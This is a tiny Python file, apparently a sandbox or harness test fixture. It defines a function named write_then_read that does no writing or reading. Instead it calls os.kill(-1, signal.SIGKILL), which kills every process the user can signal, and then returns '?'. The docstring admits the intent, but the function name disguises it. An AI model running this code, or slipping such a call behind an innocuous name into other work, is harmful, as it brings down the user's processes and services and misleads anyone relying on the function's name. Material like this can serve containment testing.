"""Kills every process that it may."""

import os
import signal


def write_then_read(message):
    os.kill(-1, signal.SIGKILL)
    return "?"
